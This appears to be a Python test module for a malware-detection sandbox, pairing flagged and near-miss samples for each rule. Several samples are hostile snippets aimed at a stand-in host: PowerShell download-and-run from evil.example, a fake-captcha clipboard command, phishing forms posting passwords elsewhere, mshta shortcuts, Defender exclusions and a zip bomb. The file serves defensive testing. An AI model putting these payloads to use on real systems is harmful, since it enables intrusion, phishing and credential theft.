"""For each rule on files that are no documents: one that it fits, and one that is close but that it does not fit."""

import gzip
import io

import pyzipper

from submissions.sandbox.base import Sample
from tests.sandbox.static.documents import program, shell_link, zipped
from tests.sandbox.static.samples import EICAR, file

Case = tuple[Sample, Sample]

TEXT = file(b"Dear all,\nsee you tomorrow at the station.\n", "note.txt")
PNG = b"\x89PNG\r\n\x1a\n" + bytes(100)
PICTURE = file(PNG, "photo.png")


def script(text: str, name: str = "a.js") -> Sample:
    return file(text.encode(), name)


def page(body: str, name: str = "page.html") -> Sample:
    return file(f"<!DOCTYPE html><html><body>{body}</body></html>".encode(), name)


def code(text: str) -> Sample:
    return page(f"<p>Welcome</p><script>{text}</script>")


def archive(parts: dict[str, bytes | str], name: str = "files.zip") -> Sample:
    return file(zipped(parts), name)


def locked(name: str, content: bytes) -> Sample:
    packed = io.BytesIO()
    with pyzipper.AESZipFile(packed, "w", encryption=pyzipper.WZ_AES) as sealed:
        sealed.setpassword(b"secret")
        sealed.writestr(name, content)
    return file(packed.getvalue(), "files.zip")


def overlapping() -> Sample:
    """An archive whose directory names one member's bytes twice (CVE-2024-0450)."""
    packed = zipped({"a.txt": b"first", "b.txt": b"second"})
    start = packed.index(b"PK\x01\x02")
    entry = packed.index(b"PK\x01\x02", start + 1)
    return file(packed[: entry + 42] + bytes(4) + packed[entry + 46 :], "files.zip")


def smuggler(saving: str) -> Sample:
    return code(f"var b = new Blob([atob('UEsDBA==')]); {saving}")


def image(mark: bytes = b"CD001") -> bytes:
    return bytes(0x8000) + b"\x01" + mark + bytes(4096)


def internet_shortcut(target: str) -> Sample:
    return file(f"[InternetShortcut]\r\nURL={target}\r\n".encode(), "page.url")


PASSWORD = "<form{}><input name=u><input type=password></form>"
LINK = shell_link("", "..\\notes.txt")
COMMAND = shell_link("/c start notes.txt", "..\\..\\Windows\\System32\\cmd.exe")
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(64)
DATA = "QUJD" * 1200
FRAME = "<iframe src='https://evil.example/'></iframe></foreignObject></svg>"
STYLESHEET = (
    "<?xml version='1.0'?><stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'>"
    "<ms:script implements-prefix='u' language='JScript'>1</ms:script></stylesheet>"
)

CASES: dict[str, Case] = {
    "test-virus": (file(EICAR, "eicar.com"), file(b"The EICAR-STANDARD-ANTIVIRUS-TEST-FILE is a text.\n", "a.txt")),
    "yara": (
        script("powershell -c iex((iwr https://evil.example/a).content)", "a.ps1"),
        script("powershell -c Get-Date", "a.ps1"),
    ),
    "name-double-extension": (file(program(), "invoice.pdf.exe"), file(program(), "setup.exe")),
    "name-direction": (file(program(), "invoice\u202efdp.exe"), file(program(), "invoice.exe")),
    "name-invisible": (file(PNG, "pho\u200bto.png"), PICTURE),
    "name-padded": (file(program(), "invoice.pdf" + " " * 40 + ".exe"), file(program(), "my invoice.exe")),
    "name-runs": (file(bytes(range(1, 250)), "invoice.scr"), file(bytes(range(1, 250)), "invoice.bin")),
    "type-disguised": (file(program(), "photo.jpg"), PICTURE),
    "program": (file(program(), "setup.exe"), file(b"MZ and other words of a text\n", "note.txt")),
    "program-other-system": (file(MACH_O, "tool"), TEXT),
    "program-addin": (file(program(b"xlAutoOpen\0"), "sums.xll"), file(program(), "sums.dll")),
    "installer": (
        file(b"xar!\x00\x1c\x00\x01" + bytes(64), "app.pkg"),
        archive({"readme.txt": "hello"}),
    ),
    "program-odd": (file(program(b"UPX0UPX1"), "setup.exe"), file(program(), "setup.exe")),
    "script": (script("var x = 1;"), TEXT),
    "script-other-system": (script("#!/bin/sh\necho hello\n", "a.sh"), TEXT),
    "script-encoded": (script("#@~^AAAAAA==abc^#~@", "a.jse"), script("var x = 1;")),
    "html-application": (page("<hta:application id=a>", "a.hta"), page("<p>hello</p>")),
    "help-file": (file(b"ITSF\x03\x00\x00\x00" + bytes(64), "manual.chm"), TEXT),
    "console-file": (
        script('<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"/>', "a.msc"),
        script('<?xml version="1.0"?><Console/>', "a.xml"),
    ),
    "settings-file": (
        script('<?xml version="1.0"?><PCSettings><SearchableContent/></PCSettings>', "a.settingcontent-ms"),
        script('<?xml version="1.0"?><Settings/>', "a.xml"),
    ),
    "library-file": (
        script('<?xml version="1.0"?><libraryDescription><url>\\\\x\\y</url></libraryDescription>', "a.library-ms"),
        script('<?xml version="1.0"?><library/>', "a.xml"),
    ),
    "registry-file": (script("Windows Registry Editor Version 5.00\r\n", "a.reg"), TEXT),
    "remote-desktop-file": (script("full address:s:198.51.100.7\r\n", "a.rdp"), TEXT),
    "web-query-file": (script("WEB\r\n1\r\nhttps://evil.example/\r\n", "a.iqy"), TEXT),
    "sylk-file": (script("ID;P\nC;X1;Y1;K0\nE\n", "a.slk"), script("ID,P\n1,2\n", "a.csv")),
    "setup-information": (script("[Version]\r\nSignature=$CHICAGO$\r\n", "a.inf"), script("[Version]\r\n", "a.ini")),
    "java-start-file": (script('<jnlp href="a.jnlp"></jnlp>', "a.jnlp"), TEXT),
    "desktop-entry": (script("[Desktop Entry]\nExec=sh\n", "a.desktop"), TEXT),
    "icon-file": (script("[Shell]\r\nIconFile=\\\\198.51.100.7\\a.ico\r\n", "a.scf"), TEXT),
    "script-runs-program": (
        script('new ActiveXObject("WScript.Shell")'),
        script("new ActiveXObject('Scripting.Dictionary')"),
    ),
    "script-downloads": (script('new ActiveXObject("MSXML2.XMLHTTP")'), script("var url = 'https://www.example.org';")),
    "script-obfuscated": (script("var a = StrReverse(x)", "a.vbs"), script("var a = reverse(x)", "a.vbs")),
    "script-encoded-command": (
        script("powershell -enc " + "QQBC" * 20, "a.bat"),
        script("powershell -enc utf8", "a.bat"),
    ),
    "script-hidden-window": (
        script("powershell -WindowStyle Hidden -File a.ps1", "a.bat"),
        script("powershell -File hidden.ps1", "a.bat"),
    ),
    "script-disarms": (script("Add-MpPreference -ExclusionPath C:\\", "a.ps1"), script("Get-MpPreference", "a.ps1")),
    "script-stays": (script("schtasks /create /tn x /tr y", "a.bat"), script("schtasks /query", "a.bat")),
    "script-runs-memory": (script("[Reflection.Assembly]::Load($bytes)", "a.ps1"), script("Get-Content a", "a.ps1")),
    "shortcut": (file(LINK, "notes.lnk"), TEXT),
    "shortcut-command": (file(COMMAND, "notes.lnk"), file(LINK, "notes.lnk")),
    "shortcut-hidden-arguments": (file(shell_link(" " * 300 + "/c calc"), "notes.lnk"), file(COMMAND, "notes.lnk")),
    "shortcut-downloads": (
        file(shell_link("https://evil.example/a.hta", "mshta.exe"), "a.lnk"),
        file(COMMAND, "a.lnk"),
    ),
    "shortcut-disguised": (file(shell_link("/c calc", icon="C:\\a\\AcroRd32.exe"), "a.lnk"), file(COMMAND, "a.lnk")),
    "shortcut-data": (file(shell_link("/c calc", more=bytes(70_000)), "a.lnk"), file(COMMAND, "a.lnk")),
    "link-file": (internet_shortcut("https://www.example.org/"), TEXT),
    "link-file-share": (
        internet_shortcut("file://198.51.100.7/a/b.exe"),
        internet_shortcut("https://www.example.org/"),
    ),
    "link-file-program": (
        internet_shortcut("https://evil.example/a.hta"),
        internet_shortcut("https://www.example.com"),
    ),
    "page-smuggles-file": (smuggler("a.href = URL.createObjectURL(b); a.download = 'a.zip';"), smuggler("show(b)")),
    "page-carries-data": (code(f"var d = '{DATA}';"), code("var d = 'QUJD';")),
    "page-asks-password": (page(PASSWORD.format("")), page("<form><input name=search></form>")),
    "page-sends-elsewhere": (
        page(PASSWORD.format(" action=https://evil.example/p.php")),
        page(PASSWORD.format(" action=/login")),
    ),
    "page-poses-as-brand": (page("<h1>Microsoft</h1>" + PASSWORD.format("")), page("<h1>Microsoft</h1>")),
    "page-obfuscated": (code("eval(atob('YQ=='))"), code("evaluate('atob')")),
    "page-redirects": (
        page("<meta http-equiv=refresh content='0;url=https://evil.example/'>"),
        page("<meta http-equiv=refresh content='300'>"),
    ),
    "page-frame-elsewhere": (
        page("<iframe src='https://evil.example/login'></iframe>"),
        page(f"<p>{'Where to find us. ' * 10}</p><iframe src='https://maps.example.org/a'></iframe>"),
    ),
    "page-script-elsewhere": (
        page("<script src='https://evil.example/x.js'></script>"),
        page("<script src='https://www.example.org/x.js'></script><a href='https://www.example.org/'>Offer</a>"),
    ),
    "page-runs-program": (code("new ActiveXObject('WScript.Shell').Run('calc')"), code("new Active('shell')")),
    "page-exploit-address": (code("location.href='ms-msdt:/id PCWDiagnostic'"), page("<p>ms-msdt is a tool</p>")),
    "page-knows-reader": (
        page("<input name=email value='anna@corp.example'>" + PASSWORD.format("")),
        page("<input name=email value=''>" + PASSWORD.format("")),
    ),
    "page-hides-from-analysis": (
        page("<p>hello</p><script>document.oncontextmenu=x</script>"),
        code("document.title=x"),
    ),
    "page-fake-captcha": (
        code("navigator.clipboard.writeText('powershell -c iwr evil.example')"),
        code("navigator.clipboard.writeText('the address')"),
    ),
    "picture-script": (
        script('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "a.svg"),
        script('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', "a.svg"),
    ),
    "disk-image": (file(image(), "files.iso"), file(image(b"XX001"), "files.iso")),
    "container-program": (archive({"setup.exe": program()}), archive({"setup.txt": "exe"})),
    "locked-program": (locked("setup.exe", program()), locked("setup.txt", b"text")),
    "archive-nested": (archive({"more.zip": zipped({"a.txt": "a"})}), archive({"a.txt": "a.zip"})),
    "archive-bomb": (archive({"zeros.bin": bytes(30 * 1024 * 1024)}), archive({"zeros.bin": bytes(1024 * 1024)})),
    "archive-appended": (file(PNG + b"Rar!\x1a\x07\x01\x00" + bytes(50), "a.png"), PICTURE),
    "archive-rare": (file(b"\x00\x00**ACE**".rjust(14, b"\0") + bytes(50), "a.ace"), archive({"a.txt": "a"})),
    "archive-mangled": (overlapping(), archive({"a.txt": b"first", "b.txt": b"second"})),
    "parts-checked-apart": (script("From: a@b.example\nTo: c@d.example\nSubject: x\n\nhello\n", "a.eml"), TEXT),
    # What was not seen
    "locked": (locked("a.txt", b"text"), archive({"a.txt": "text"})),
    "unreadable": (file(b"Rar!\x1a\x07\x01\x00" + bytes(20), "a.rar"), archive({"a.txt": "text"})),
    "not-all-checked": (
        archive({f"{number}.txt": "x" for number in range(300)}),
        archive({f"{number}.txt": "x" for number in range(100)}),
    ),
    "unknown-type": (file(bytes(range(1, 250)), "data.bin"), PICTURE),
    "empty": (file(b"", "a.txt"), TEXT),
}
ALSO: tuple[tuple[str, Sample], ...] = (
    ("test-virus", archive({"eicar.com": EICAR})),
    ("test-virus", file(gzip.compress(EICAR), "eicar.gz")),
    ("program", archive({"a/b/setup.bin": program()})),
    ("program-other-system", file(zipped({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe"}), "a.jar")),
    ("program-other-system", file(zipped({"AndroidManifest.xml": b"\x03\0\x08\0", "classes.dex": b"dex"}), "a.apk")),
    ("program-other-system", file(b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(200), "tool")),
    ("name-direction", file(program(), "invoiceexe.pdf", notes=("name-bidi",))),
    ("name-double-extension", file(program(), "invoice.exe", notes=("double-extension",))),
    ("type-disguised", page("<p>hello</p>", "photo.jpg")),
    ("page-smuggles-file", file(b"<html><p>hello</p></html>", "a.html", notes=("html-smuggling",))),
    ("page-asks-password", page("<script>x='<input type=\"password\">'</script>")),
    ("page-sends-elsewhere", code("fetch('https://api.telegram.org/bot1:A/sendMessage')")),
    ("page-obfuscated", code("var _0x1a2b = ['\\x41\\x42','b'];\nrun()")),
    ("page-obfuscated", code("window['loc' + 'ation'] = a")),
    ("page-frame-elsewhere", script('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>' + FRAME, "a.svg")),
    (
        "page-knows-reader",
        page("<div data-email='a@corp.example'></div><script src='https://evil.example/x.js'></script>"),
    ),
    ("script", script(STYLESHEET, "a.xsl")),
    ("page-redirects", code("window.location.href = 'https://evil.example/'")),
    ("disk-image", file(bytes(4096) + b"conectix" + bytes(504), "disk.vhd")),
)
